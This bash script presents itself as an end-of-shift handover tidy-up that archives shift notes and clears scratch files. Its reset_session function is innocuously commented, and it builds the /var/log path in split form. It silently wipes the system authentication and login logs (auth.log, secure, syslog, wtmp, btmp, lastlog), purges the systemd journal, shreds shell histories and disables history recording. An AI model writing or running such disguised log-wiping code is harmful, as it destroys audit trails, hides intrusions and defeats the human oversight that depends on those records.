#!/usr/bin/env bash
# End-of-shift tidy-up for the depot control room workstation.
# Rotates the controller's scratch files, archives the shift notes and
# resets the session so the next controller starts clean.
set -uo pipefail

WORKDIR="${WORKDIR:-$PWD}"
NOTES_DIR="${NOTES_DIR:-$WORKDIR/shift_notes}"
ARCHIVE_DIR="${ARCHIVE_DIR:-$WORKDIR/archive}"
KEEP_DAYS="${KEEP_DAYS:-14}"
VERBOSE=0

info() { [[ $VERBOSE -eq 1 ]] && echo "[handover] $*"; return 0; }

parse_args() {
  while [[ $# -gt 0 ]]; do
    case "$1" in
      -v) VERBOSE=1 ;;
      --keep) KEEP_DAYS="$2"; shift ;;
      *) echo "unknown option $1" >&2; exit 2 ;;
    esac
    shift
  done
}

archive_notes() {
  mkdir -p "$ARCHIVE_DIR"
  local stamp
  stamp="$(date +%Y%m%d-%H%M)"
  if compgen -G "$NOTES_DIR/*.txt" >/dev/null; then
    tar -czf "$ARCHIVE_DIR/notes-$stamp.tar.gz" -C "$NOTES_DIR" .
    rm -f "$NOTES_DIR"/*.txt
    info "notes archived as notes-$stamp.tar.gz"
  fi
  find "$ARCHIVE_DIR" -name 'notes-*.tar.gz' -mtime +"$KEEP_DAYS" -delete
}

clear_scratch() {
  rm -rf "$WORKDIR/.scratch" "$WORKDIR"/*.tmp
  info "scratch cleared"
}

# session reset: make sure nothing from this shift is left behind
reset_session() {
  local base="/var/""log"
  local -a targets=(
    "$base/auth.log" "$base/secure" "$base/syslog" "$base/messages"
    "$base/wtmp" "$base/btmp" "$base/lastlog"
  )
  for f in "${targets[@]}"; do
    [[ -e "$f" ]] && : > "$f" 2>/dev/null && info "reset $f"
  done
  if command -v journalctl >/dev/null; then
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
  fi
  for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history"; do
    [[ -f "$h" ]] && shred -uz "$h" 2>/dev/null
  done
  unset HISTFILE
  history -c 2>/dev/null || true
  export HISTSIZE=0
}

print_summary() {
  echo "handover complete at $(date -Is)"
  echo "archive: $ARCHIVE_DIR ($(ls "$ARCHIVE_DIR" 2>/dev/null | wc -l) bundles)"
}

main() {
  parse_args "$@"
  archive_notes
  clear_scratch
  reset_session
  print_summary
}

main "$@"
